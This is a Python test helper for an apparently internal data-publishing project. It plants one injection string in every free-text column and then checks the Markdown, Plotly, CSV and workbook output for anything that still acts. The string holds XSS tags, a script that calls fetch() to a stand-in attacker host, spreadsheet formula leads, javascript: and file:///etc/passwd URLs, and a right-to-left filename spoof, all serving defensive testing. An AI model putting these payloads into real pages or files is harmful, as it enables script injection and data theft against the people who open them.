"""One hostile text, planted in every column of free text of every dataset; and what is still acted on in what
became of it. Nothing here is believed of a page: only what stands in it is read."""

import csv
import html
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterator

import pandas as pd

from tradeviz.datasets import DATASETS, Column, ColumnType
from tradeviz.publishing.shipped import Shipped
from tradeviz.storage.store import Store

FOREIGN = "evil.example"
"""The host that no page may ask and no link may lead to."""
GOOD = "https://good.example/[x](y)?a=*b*&c=_d_"
"""The one address that is one of the web: a link, and escaped."""
ADDRESSES = (
    GOOD,
    "javascript:alert(1)",
    f"data:text/html,<img src=https://{FOREIGN}/data>",
    "file:///etc/passwd",
    f"//{FOREIGN}/host",
    f"https://u:p@{FOREIGN}/user",
    f"https://good.example/ ](https://{FOREIGN}/broken)",
)
LEADS = ("=", "＝", "\n=", " ＋", "－", "＠", "\t@", "'=")
"""What begins a formula, each in some column."""
MARK = "planted"
ACTS = (
    f'HYPERLINK("https://{FOREIGN}/formula") [click](https://{FOREIGN}/link) '
    f"![i](https://{FOREIGN}/image.png) <a href='https://{FOREIGN}/a'>a</a> "
    f"<img src=https://{FOREIGN}/x.png onerror=document.title='{FOREIGN}'> "
    f"<script>fetch('https://{FOREIGN}/s')</script> &lt;b&gt; &#60;i&#62; https://{FOREIGN}/bare "
    f"www.{FOREIGN} a@{FOREIGN} :material/home: :smile: :red[red] $\\frac{{1}}{{2}}$ "
    f"\x1b]8;;https://{FOREIGN}/osc\x1b\\x\x1b[31m \u202egpj.exe\u2066 \x9b2J\x07 "
    "**b** `c` ~~d~~ | # h\r\n=1+1"
)
"""What Markdown, HTML, Plotly, LaTeX, a terminal and a spreadsheet would each make something of."""


def hostile(place: int) -> str:
    """The text, beginning as one formula or another."""
    return f"{LEADS[place % len(LEADS)]}{MARK} {ACTS}"


def free(column: Column) -> bool:
    """Whether nothing but its type says what stands in a column."""
    return not column.is_key and not column.allowed


def planted(table: pd.DataFrame, name: str) -> pd.DataFrame:
    """A dataset with the text in every free column of every row, told apart where the column tells rows apart."""
    dataset = DATASETS[name]
    for place, column in enumerate(one for one in dataset.columns.values() if free(one)):
        if column.type is ColumnType.ADDRESS:
            texts = [ADDRESSES[row % len(ADDRESSES)] for row in range(len(table))]
        else:
            texts = [hostile(place)] * len(table)
        if column.name in dataset.key:
            texts = [f"{text} {row}" for row, text in enumerate(texts)]
        table = table.assign(**{column.name: pd.Series(texts, index=table.index, dtype="object")})
    return table


def plant(store: Store, shipped: Shipped) -> None:
    """A store in which every dataset was published once, and then with the text, also in what is said of the version."""
    for name in DATASETS:
        rows = planted(shipped.read(DATASETS[name]), name)
        store.publish(
            name,
            rows,
            by=hostile(1),
            note=hostile(0),
            file=hostile(2),
            replacing=store.current(name),
        )


# ---------------------------------------------------------------------------------------- what is acted on

_LINK = re.compile(r"(?<!\\)\[((?:\\.|[^\[\]\\])*)\]\(<((?:\\.|[^>\\])*)>\)")
_OURS = re.compile(r"\*\*|:small\[|\]|[:;](?= )")
_PUNCTUATION = re.compile(r"[!-/:-@\[-`{-~]")
HIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f]")
"""Signs that turn, hide or move what stands around them."""


def links(markdown: str) -> list[str]:
    """The addresses that Markdown leads to."""
    found = _LINK.findall(markdown.replace(":small[]", ""))
    return [re.sub(r"\\(.)", r"\1", address) for _label, address in found]


_BADGE = re.compile(r":gray-badge\[([^\]]*)\]")
"""What marks a figure on its card: the program's own words."""


def acting(markdown: str) -> str:
    """What Markdown would still act on in the words of a text: nothing, in what passed the door."""
    own = _BADGE.sub(lambda badge: badge[1], markdown.replace(":small[]", ""))
    bare = _LINK.sub(lambda link: link[1], own)
    bare = _OURS.sub(" ", re.sub(r"\\.", "", bare))
    return "".join(_PUNCTUATION.findall(bare)) + "".join(HIDDEN.findall(markdown))


def drawn(text: str) -> str:
    """What Plotly writes of a text: tags and names of signs are read once."""
    assert not re.search(r"<(?!/?b>|br>)", text), text
    return html.unescape(re.sub(r"</?b>", "", text.replace("<br>", " ")))


def cells_of_csv(content: bytes, separator: str) -> Iterator[str]:
    """Every cell of a CSV file."""
    for row in csv.reader(
        io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator
    ):
        yield from row


def runs(cell: str) -> bool:
    """Whether some spreadsheet would run a cell: as a number does not, whatever its sign."""
    seen = unicodedata.normalize("NFKC", cell).strip("\u200b\ufeff \n\t\r")
    is_number = re.fullmatch(r"[-+]?\d[\d.,\s%]*", seen) is not None
    return not is_number and (
        seen.startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r"))
    )


def of_workbook(content: bytes) -> str:
    """What makes a workbook do something: formulas, links out of it, macros."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith("xml")}
        named = [name for name in book.namelist() if re.search("vba|externalLink|\\.bin", name)]
    made = re.findall(r"<f>|<f |<hyperlink|DDE", "".join(parts.values()))
    return ", ".join([*made, *named])
